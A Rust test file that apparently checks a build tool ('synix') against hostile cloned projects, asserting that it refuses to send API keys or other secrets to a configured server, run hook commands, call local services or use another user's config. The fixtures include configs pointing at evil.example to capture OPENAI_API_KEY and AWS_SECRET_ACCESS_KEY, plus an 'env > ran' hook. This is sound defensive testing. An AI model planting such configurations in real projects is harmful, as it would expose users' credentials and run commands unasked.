//! Projects that an attacker could publish: each test clones one and runs commands in it.
//!
//! Every command that needs no permission runs in each of them. None may run a program, connect to a server, print a
//! secret or change a file outside. The commands that need permission refuse. `SECURITY.md` promises this.

use std::fs;

use crate::support::folders;
use crate::support::hostile_clone::HostileClone;
use crate::support::proxy::RecordingProxy;
use crate::support::test_project::TestProject;
#[cfg(unix)]
use crate::support::test_project::command_in;

/// W3, attack 4: the clone's own server.
#[test]
fn a_server_of_the_clone_gets_no_key() {
    let clone = HostileClone::new("base_url = \"https://evil.example/v1\"", "");
    clone.assert_safe_commands_have_no_effect();
    clone.assert_acting_commands_are_refused(5, "OPENAI_API_KEY");
}

/// W3, attack 6: another variable as the key.
#[test]
fn no_other_secret_is_sent_as_a_key() {
    for base_url in ["", "base_url = \"https://evil.example/v1\""] {
        let provider = format!("api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n{base_url}");
        let clone = HostileClone::new(&provider, "");
        clone.assert_safe_commands_have_no_effect();
        clone.assert_acting_commands_are_refused(5, "AWS_SECRET_ACCESS_KEY");
    }
}

/// W4, W9, attacks 8 and 9: a command of the clone.
#[test]
fn a_command_of_the_clone_is_not_run() {
    for pipeline in [
        "on_done = \"env > ran\"",
        "on_done = \"env > ran\"\non_done_in_replay = true",
        "on_done = [\"touch\", \"ran\"]\non_done_in_replay = true",
    ] {
        let clone = HostileClone::new("", pipeline);
        clone
            .project
            .write("cassettes/clone.json", "{\"version\": 1, \"entries\": []}");
        clone.assert_safe_commands_have_no_effect();
        clone.assert_acting_commands_are_refused(5, "run this command with your rights");
    }
}

/// W10, attack 44: a URL of a service on this machine.
#[test]
fn a_local_service_is_not_called() {
    let service = RecordingProxy::start();
    let clone = HostileClone::new("", &format!("on_done_url = \"{}/admin\"", service.url()));
    clone.assert_safe_commands_have_no_effect();
    clone.assert_acting_commands_are_refused(5, "send the status of each build");
    assert_eq!(service.connections(), [""; 0]);

    let digest = "0".repeat(64);
    let clone = HostileClone::new("", "");
    let file = fs::read_to_string(clone.project.path("synix.toml")).unwrap();
    let plugin = format!("transform = \"{}/secret#sha256={digest}\"", service.url());
    clone
        .project
        .write("synix.toml", &file.replace("transform = \"map\"", &plugin));
    clone.assert_safe_commands_have_no_effect();
    clone.assert_acting_commands_are_refused(5, "download a plugin from");
    assert_eq!(service.connections(), [""; 0]);
}

/// W21, attack 46: anyone on the network path could read the key.
#[test]
fn a_remote_server_gets_no_key_over_plain_http() {
    let clone = HostileClone::new("base_url = \"http://evil.example/v1\"", "");
    clone.assert_safe_commands_have_no_effect();
    clone.assert_acting_commands_are_refused(5, "unencrypted");
    let run = clone.run(&["build", "--trust"]);
    clone.assert_no_effect(&["build", "--trust"], &run);
}

/// W8, attack 48: another user put a pipeline file into a parent folder.
#[cfg(unix)]
#[test]
fn another_users_pipeline_file_in_a_parent_folder_is_not_used() {
    use std::os::unix::fs::{PermissionsExt as _, chown};

    let clone = HostileClone::new("", "on_done = \"touch ran\"");
    let above = clone.project.path("");
    fs::set_permissions(&above, fs::Permissions::from_mode(0o1777)).unwrap();
    fs::create_dir_all(above.join("mine/sub")).unwrap();
    if chown(&above, Some(4242), None).is_err() {
        // Only root can change the owner of a folder. Another test covers the search.
        return;
    }
    chown(above.join("synix.toml"), Some(4242), None).unwrap();
    for arguments in [&["build"][..], &["plan"], &["trust"], &["build", "--trust"]] {
        let run = command_in(&above.join("mine/sub"), arguments).run();
        assert!(
            run.code == 2 && run.says("another owner"),
            "{arguments:?}: {run:?}"
        );
        clone.assert_no_effect(arguments, &run);
    }
}

/// W5, W12: its answers did not come from a provider.
#[test]
fn the_state_of_a_clone_is_not_built_on() {
    let other = TestProject::team();
    other.ok(&["build"]);
    let clone = HostileClone::new("", "");
    folders::copy(&other.path(".synix"), &clone.project.path(".synix"));
    clone.assert_acting_commands_are_refused(5, "use the state in .synix");
    for arguments in [&["list"][..], &["show", "summary"], &["plan"], &["runs"]] {
        let run = clone.run(arguments).expect_code(0);
        clone.assert_no_effect(arguments, &run);
    }
}
